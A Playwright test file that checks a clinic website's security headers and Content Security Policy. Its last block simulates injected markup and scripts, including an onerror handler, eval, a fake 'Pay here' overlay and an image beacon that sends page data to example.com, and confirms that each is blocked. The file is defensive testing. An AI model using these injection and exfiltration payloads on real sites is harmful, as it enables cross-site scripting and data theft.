import { expect, test as withoutWatch, type Page } from '@playwright/test';
import { readdirSync, readFileSync } from 'node:fs';
import { mapEmbedHref } from '../app/content/clinic-facts.ts';
import { securityHeaders } from '../relay/security-headers.ts';
import { clinic } from '../clinic/clinic.ts';
import { test } from './visitor.ts';

const SITE = 'build/client';

const HTML_FILES = readdirSync(SITE, { recursive: true, encoding: 'utf8' })
  .filter((file) => file.endsWith('.html'))
  .sort();
const PATHS = HTML_FILES.filter((file) => /(^|\/)index\.html$/.test(file)).map(
  (file) => `/${file.replace(/\/?index\.html$/, '')}`,
);
const UNKNOWN = '/no/such/page';

test.beforeEach(({ page }, { project }) => {
  void page;
  test.skip(project.name === 'phone', 'the policy is the same on every screen');
});

test('the same headers come with pages, files, redirects and what is not found', async ({ request }) => {
  const html = readFileSync(`${SITE}/index.html`, 'utf8');
  const asset = /"(\/assets\/[^"]+\.js)"/.exec(html)![1]!;
  const picture = /(\/pictures\/[^" ]+)/.exec(html)![1]!;
  for (const path of [
    '/',
    '/about',
    '/about/',
    '/about.data',
    asset,
    picture,
    '/favicon.svg',
    UNKNOWN,
    '/assets/gone.js',
    '/health',
    '/f/unknown',
  ]) {
    const headers = (await request.get(path, { maxRedirects: 0 })).headers();
    for (const [name, value] of Object.entries(securityHeaders)) {
      expect(headers[name.toLowerCase()], `${path}: ${name}`).toBe(value);
    }
  }
});

type Watched = { violations: string[]; foreign: string[] };

/** Records what the browser reports as forbidden, and what goes to any other origin than the site's. */
async function watch(page: Page, baseURL: string): Promise<Watched> {
  const watched: Watched = { violations: [], foreign: [] };
  await page.exposeFunction('reportViolation', (text: string) => watched.violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { reportViolation } = window as unknown as { reportViolation: (text: string) => void };
      reportViolation(`${location.pathname}: ${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== new URL(baseURL).origin) {
      watched.foreign.push(`${new URL(page.url()).pathname}: ${request.url()}`);
    }
  });
  return watched;
}

async function hydrated(page: Page) {
  await page.waitForFunction(() => {
    const { __reactRouterDataRouter: router } = window as unknown as {
      __reactRouterDataRouter?: { state: { initialized: boolean } };
    };
    return router?.state.initialized;
  });
}

test('every page runs under its policy, and asks nothing of anyone but the site', async ({
  page,
  baseURL,
}) => {
  test.setTimeout(240_000);
  const watched = await watch(page, baseURL!);
  for (const path of [...PATHS, UNKNOWN, '/blog/no-such-article']) {
    await page.goto(path);
    await hydrated(page);
    await page.waitForLoadState('networkidle');
  }
  expect(watched).toEqual({ violations: [], foreign: [] });
});

test('without scripts nothing is asked of others either, not even by the map', async ({
  browser,
  baseURL,
}) => {
  const context = await browser.newContext({ baseURL: baseURL!, javaScriptEnabled: false });
  const page = await context.newPage();
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== new URL(baseURL!).origin) foreign.push(request.url());
  });
  for (const path of ['/', '/contact', '/book', UNKNOWN]) {
    await page.goto(path, { waitUntil: 'networkidle' });
  }
  expect(foreign).toEqual([]);
  await page.goto('/contact');
  const map = page.locator('#clinic-map');
  await expect(map.getByText(clinic.address.street)).toBeVisible();
  await expect(map.getByRole('img')).toHaveAttribute('alt', clinic.map.sketch!);
  await context.close();
});

test('a visit from page to page, through menus, filters, tabs, slides and the map, keeps to the policy', async ({
  page,
  baseURL,
}) => {
  const watched = await watch(page, baseURL!);
  const mapOrigin = new URL(mapEmbedHref).origin;
  await page.route(`${mapOrigin}/**`, (route) =>
    route.request().resourceType() === 'image'
      ? route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' })
      : route.fulfill({ contentType: 'text/html', body: '<p>A map</p>' }),
  );
  await page.goto('/');
  await hydrated(page);
  await page.getByRole('button', { name: 'Next slide' }).click();
  await page.getByRole('banner').getByRole('button', { name: 'Services' }).click();
  await page.locator('[popover]:popover-open').getByRole('link').first().click();
  await expect(page).toHaveURL(/\/services\//);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  for (const path of [
    '/gallery#before-after',
    '/gallery/before-after',
    '/team',
    '/blog?search=gums',
    '/about',
    '/nowhere',
    '/contact',
  ]) {
    await page.evaluate((to) => {
      const { __reactRouterDataRouter: router } = window as unknown as {
        __reactRouterDataRouter: { navigate: (to: string) => Promise<void> };
      };
      return router.navigate(to);
    }, path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const slider = page.getByRole('slider').first();
    if (path.includes('before-after')) {
      await slider.focus();
      await page.keyboard.press('ArrowRight');
    }
    if (path === '/team') {
      await page
        .getByRole('button', { name: /View Profile/ })
        .first()
        .click();
      await page.getByRole('dialog').getByRole('button', { name: 'Close' }).first().click();
    }
  }
  expect(watched).toEqual({ violations: [], foreign: [] });

  await page.locator('#clinic-map').scrollIntoViewIfNeeded();
  await expect(page.locator('#clinic-map iframe').contentFrame().getByText('A map')).toBeVisible();
  expect(watched.violations).toEqual([]);
  expect(watched.foreign.every((request) => request.startsWith(`/contact: ${mapOrigin}/`))).toBe(true);
});

test('the screen of a page that did not load keeps to the policy too', async ({ page, baseURL }) => {
  const watched = await watch(page, baseURL!);
  await page.goto('/');
  await hydrated(page);
  await page.route('**/doctors.data*', (route) => route.abort());
  await page.evaluate(() => {
    const { __reactRouterDataRouter: router } = window as unknown as {
      __reactRouterDataRouter: { navigate: (to: string) => void };
    };
    router.navigate('/doctors');
  });
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('This page did not load');
  expect(watched).toEqual({ violations: [], foreign: [] });
});

// What somebody who got a line of markup or script into a page would try. It shows too that the watches above see.
for (const [what, directive, attempt] of [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "taken over"';
      document.body.append(script);
    },
  ],
  [
    'an event handler in markup',
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="/none" onerror="document.title=\'taken over\'">',
      );
    },
  ],
  [
    'a script of another site',
    'script-src-elem',
    () => {
      document.body.append(
        Object.assign(document.createElement('script'), { src: 'https://example.com/a.js' }),
      );
    },
  ],
  [
    'text run as code',
    'script-src',
    () => {
      // Not at once: what the test itself runs is no concern of the policy.
      setTimeout(() => {
        // oxlint-disable-next-line no-eval
        (0, eval)('document.title = "taken over"');
      });
    },
  ],
  [
    'a style in markup',
    'style-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed;inset:0">Pay here</p>');
    },
  ],
  [
    'a picture that carries data away',
    'img-src',
    () => {
      new Image().src = `https://example.com/?${document.title}`;
    },
  ],
  [
    'a request to another site',
    'connect-src',
    () => {
      void fetch('https://example.com/').catch(() => {});
    },
  ],
  [
    'a form that leads elsewhere',
    'form-action',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<form action="https://example.com/" id="trap"></form>');
      document.querySelector<HTMLFormElement>('#trap')!.submit();
    },
  ],
  [
    'a base address that bends links',
    'base-uri',
    () => {
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://example.com/' }));
    },
  ],
  [
    'a frame of another site',
    'frame-src',
    () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.com/' }));
    },
  ],
] as const) {
  withoutWatch(`${what} is stopped`, async ({ page, baseURL }, { project }) => {
    withoutWatch.skip(project.name === 'phone', 'the policy is the same on every screen');
    let reached = false;
    await page.route('https://example.com/**', (route) => {
      reached = true;
      return route.abort();
    });
    const { violations } = await watch(page, baseURL!);
    await page.goto('/contact');
    await hydrated(page);
    await page.evaluate(attempt);
    await expect.poll(() => violations.join()).toContain(directive);
    expect(reached).toBe(false);
    expect(await page.evaluate(() => document.title)).not.toBe('taken over');
  });
}

withoutWatch('no other site can show a page of this one in a frame', async ({ page, baseURL }) => {
  const other = baseURL!.replace('127.0.0.1', 'localhost');
  await page.route(`${other}/**`, (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/book"></iframe>` }),
  );
  const framed = page.frameLocator('iframe').getByRole('heading', { level: 1 });

  const unprotected = await (await page.request.get('/book')).text();
  await page.route(`${baseURL}/book`, (route) =>
    route.fulfill({ contentType: 'text/html', body: unprotected }),
  );
  await page.goto(`${other}/`);
  await expect(framed).toBeVisible();

  await page.unroute(`${baseURL}/book`);
  await page.reload();
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  await expect(framed).toHaveCount(0);
});
